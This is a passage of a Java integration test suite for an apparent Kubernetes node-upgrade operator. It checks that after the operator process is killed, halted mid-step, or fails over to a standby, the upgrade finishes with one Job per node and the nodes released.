            assertThat(UpgradeJob.outcome(job)).isInstanceOf(UpgradeJob.Running.class);
            assertThat(bed.node(w1).getSpec().getUnschedulable()).as("kubeadm may be restarting its kubelet: stays cordoned").isTrue();
            assertThat(bed.events(name)).anySatisfy(e -> assertThat(e.getReason()).isEqualTo("LeftCordoned"));
            jobs.withName(jobName).delete();
        }
    }

    /** The node's Job, once its pod runs and the operator has seen it run. */
    private String jobOnceItsPodRuns(String upgrade, String node) {
        String jobName = nodeStatus(bed.await(upgrade, Duration.ofSeconds(60), u -> !u.getStatus().getNodes().isEmpty()
                && nodeStatus(u, node).getJobName() != null), node).getJobName();
        Awaitility.await("the Job's pod running").atMost(Duration.ofSeconds(30)).until(() -> {
            var job = bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE).withName(jobName).get();
            return job != null && job.getStatus() != null && job.getStatus().getReady() != null && job.getStatus().getReady() > 0;
        });
        bed.await(upgrade, Duration.ofSeconds(30), u -> ("Upgrading node " + node + " (Node, Job " + jobName + ").").equals(u.getStatus().getMessage()));
        return jobName;
    }

    @Test
    void anOperatorKilledWhileANodeIsUpgradingFinishesItWithoutASecondJob() {
        String w1 = bed.worker(FROM);
        String jobName;
        try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            bed.create("nu-restart", script(), spec -> { });
            NodeUpgrade upgrading = bed.await("nu-restart", Duration.ofSeconds(60), u -> !u.getStatus().getNodes().isEmpty()
                    && nodeStatus(u, w1).getPhase() == Phase.Upgrading && nodeStatus(u, w1).getJobName() != null);
            jobName = nodeStatus(upgrading, w1).getJobName();
            Awaitility.await().atMost(Duration.ofSeconds(10)).until(() -> kubelets.jobsOn(List.of(w1)).size() == 1);

            operator.kill();
            operator.expireItsLease();
        }
        operator = OperatorProcess.start(testBed, "nodeupgrade-it-restarted", operatorProperties());
        NodeUpgrade done = bed.await("nu-restart", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));

        assertThat(nodeStatus(done, w1).getJobName()).isEqualTo(jobName);
        assertThat(kubelets.jobsOn(List.of(w1))).as("the restarted operator found the Job instead of creating another")
                .extracting(SeenJob::name).containsExactly(jobName);
        bed.assertReleased(w1, false);
    }

    /**
     * The operator process halts (as on SIGKILL) right after a side effect, before its record; a new
     * process finishes the upgrade from what the API server holds: one Job per node, every node given
     * back. docs/reliability.md lists these points.
     */
    @ParameterizedTest(name = "halted at {0}")
    @ValueSource(strings = {"nodeupgrade.locked", "nodeupgrade.cordoned", "nodeupgrade.job-created", "nodeupgrade.released"})
    void haltedRightAfterASideEffectANewProcessFinishesTheUpgrade(String point) throws java.io.IOException {
        String w1 = bed.worker(FROM);
        String w2 = bed.worker(FROM);
        String name = "nu-halt-" + point.replace('.', '-').replace('@', '-');
        restartHaltingAt(point);

        bed.create(name, script(), spec -> { });
        awaitHaltedAndRestart(point, UPGRADE_TIME);
        NodeUpgrade done = bed.await(name, UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));

        assertThat(kubelets.jobsOn(List.of(w1, w2))).as("one Job per node").extracting(SeenJob::node).containsExactlyInAnyOrder(w1, w2);
        assertThat(done.getStatus().getNodes()).extracting(UpgradeNodeStatus::getPhase).containsOnly(Phase.Succeeded);
        bed.nodes.forEach(n -> bed.assertReleased(n, false));
    }

    /**
     * Halted right after a drain step evicted pods, then (the next process) right after the node whose Job failed was
     * given back, before Failed was written: the last process ends the upgrade Failed, with one Job and the node back.
     */
    @Test
    void haltedRightAfterADrainStepThenAfterTheFailedNodeWasGivenBackNewProcessesEndItFailedWithOneJob() throws java.io.IOException {
        String w1 = bed.worker(FROM);
        String namespace = testBed.newNamespace("nuit-halt-drain");
        String name = "nu-halt-drain-failed";
        try {
            bed.podsPinnedTo(w1, namespace);
            try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
                restartHaltingAt("nodeupgrade.drain-step");
                bed.create(name, script(), spec -> spec.getExecutor().setJobTimeoutSeconds(3));
                awaitHaltedAndRestartHaltingAt("nodeupgrade.drain-step", "nodeupgrade.failed.released", UPGRADE_TIME);
                awaitHaltedAndRestart("nodeupgrade.failed.released", UPGRADE_TIME);
                NodeUpgrade failed = bed.await(name, UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Failed));

                assertThat(nodeStatus(failed, w1).getPhase()).isEqualTo(Phase.Failed);
                assertThat(nodeStatus(failed, w1).getError()).contains("DeadlineExceeded");
                assertThat(upgradeJobsOn(w1)).as("one upgrade Job").hasSize(1);
                bed.assertReleased(w1, false);
            }
        } finally {
            bed.client.namespaces().withName(namespace).delete();
        }
    }

    /**
     * Deleted while its Job runs: halted right after the Job was orphaned, then (the next process) right after the node
     * was released, before the finalizer went. The last process lets the NodeUpgrade go; the one Job is left to finish,
     * the node unlocked and, under its running Job, still cordoned (as without a kill: LeftCordoned).
     */
    @Test
    void haltedRightAfterADeletedUpgradeOrphanedItsJobThenAfterItReleasedTheNodeNewProcessesLetItGo() throws java.io.IOException {
        String w1 = bed.worker(FROM);
        String name = "nu-halt-deleted";
        try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            restartHaltingAt("nodeupgrade.deleted.job-orphaned");
            bed.create(name, script(), spec -> { });
            String jobName = nodeStatus(bed.await(name, UPGRADE_TIME, u -> !u.getStatus().getNodes().isEmpty()
                    && nodeStatus(u, w1).getPhase() == Phase.Upgrading && nodeStatus(u, w1).getJobName() != null), w1).getJobName();

            bed.client.resources(NodeUpgrade.class).withName(name).delete();
            awaitHaltedAndRestartHaltingAt("nodeupgrade.deleted.job-orphaned", "nodeupgrade.deleted.released", UPGRADE_TIME);
            awaitHaltedAndRestart("nodeupgrade.deleted.released", UPGRADE_TIME);
            Awaitility.await("NodeUpgrade deleted").atMost(UPGRADE_TIME).until(() -> bed.get(name) == null);

            assertThat(upgradeJobsOn(w1)).as("one upgrade Job, orphaned, left to finish").singleElement().satisfies(job -> {
                assertThat(job.getMetadata().getName()).isEqualTo(jobName);
                assertThat(job.getMetadata().getOwnerReferences()).isNullOrEmpty();
            });
            assertThat(bed.node(w1).getMetadata().getAnnotations()).as("unlocked; the cordon under the running Job is ours, named")
                    .doesNotContainKey(NodeAnnotations.LOCK).containsKey(NodeAnnotations.CORDONED_BY);
            assertThat(bed.node(w1).getSpec().getUnschedulable()).isTrue();
        }
    }

    private List<io.fabric8.kubernetes.api.model.batch.v1.Job> upgradeJobsOn(String node) {
        return bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE).withLabel(UpgradeJob.LABEL_NODE, node).list().getItems();
    }

    /** The leader is killed while a node's upgrade Job runs: the standby takes the Lease and finishes with the same Job. */
    @Test
    void aStandbyTakesOverAnUpgradeWhoseLeaderWasKilledMidJobAndStartsNoSecondJob() {
        String w1 = bed.worker(FROM);
        OperatorProcess standby = startStandby();
        try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
            bed.create("nu-failover", script(), spec -> { });
            bed.await("nu-failover", UPGRADE_TIME, u -> !u.getStatus().getNodes().isEmpty() && nodeStatus(u, w1).getPhase() == Phase.Upgrading
                    && nodeStatus(u, w1).getJobName() != null);
            operator.kill();
        }
        operator = standby;
        NodeUpgrade done = bed.await("nu-failover", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));

        assertThat(kubelets.jobsOn(List.of(w1))).as("the same Job, not a second one").hasSize(1);
        assertThat(nodeStatus(done, w1).getPhase()).isEqualTo(Phase.Succeeded);
        bed.assertReleased(w1, false);
    }
}
